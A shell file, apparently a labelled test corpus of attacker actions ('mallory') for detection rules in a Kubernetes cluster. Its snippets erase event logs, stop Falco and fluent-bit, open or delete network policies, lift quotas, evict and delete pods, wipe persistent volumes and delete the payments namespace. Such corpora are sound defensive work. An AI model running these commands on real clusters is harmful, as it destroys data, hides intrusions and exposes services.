# Traces and damage. 01-looking-around.sh says how to read this.

#: events-deleted | D146 | mallory
kubectl delete events --all -n ingress-nginx --wait=false >/dev/null
#: events-deleted-at-once | D146 | mallory
kubectl delete --raw /api/v1/namespaces/shop/events >/dev/null
#: event-deleted | D146 | mallory
kubectl delete --wait=false "$(kubectl get events -n kube-system -o name | head -1)" -n kube-system
#: falco-stopped | D153 | mallory
kubectl scale deployment falcosidekick -n falco --replicas=0
#: falco-nowhere | D153 | mallory
kubectl patch daemonset falco -n falco --type=merge -p '{"spec":{"template":{"spec":{"nodeSelector":{"none":"here"}}}}}'
#: logging-removed | D153 | mallory
kubectl delete daemonset fluent-bit -n logging --wait=false
#: network-policy-widened | D151 | mallory
kubectl patch networkpolicy default-deny -n shop --type=merge -p '{"spec":{"ingress":[{"from":[{"ipBlock":{"cidr":"0.0.0.0/0"}}]}]}}'
#: network-policy-deleted | D151 | mallory
kubectl delete networkpolicy default-deny -n shop
#: network-policy-opened | D151 | mallory
kubectl apply -f - <<'YAML'
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: open, namespace: shop}
spec: {podSelector: {}, ingress: [{}], egress: [{}], policyTypes: [Ingress, Egress]}
YAML
#: quota-deleted | D152 | mallory
kubectl delete resourcequota shop -n shop
kubectl delete limitrange shop -n shop
#: scaled-up | D152 | mallory
kubectl patch hpa front -n shop --type=merge -p '{"spec":{"maxReplicas":5000}}'
#: evicted | D149 | mallory
pod=$(kubectl get pods -n shop -l app=cart -o 'jsonpath={.items[0].metadata.name}')
kubectl create --raw "/api/v1/namespaces/shop/pods/$pod/eviction" -f - <<JSON
{"apiVersion":"policy/v1","kind":"Eviction","metadata":{"name":"$pod","namespace":"shop"}}
JSON
#: pod-deleted | D149 | mallory
kubectl delete pod -n kube-system -l k8s-app=kube-dns --wait=false
#: claims-deleted | D150 | mallory
kubectl delete pvc --all -n payments --wait=false
#: volumes-deleted | D150 | mallory
kubectl delete pv --all --wait=false
#: deployment-deleted | D148 | mallory
kubectl delete deployment front -n shop --wait=false
#: mass-deletion | D147 | mallory
for number in $(seq 30); do echo "---"; echo "{apiVersion: v1, kind: ConfigMap, metadata: {name: page-$number, namespace: payments}}"; done | kubectl create -f - >/dev/null
kubectl delete configmaps,deployments,services,statefulsets,jobs --all -n payments --wait=false >/dev/null
#: namespace-deleted | D145 | mallory
kubectl delete namespace payments --wait=false
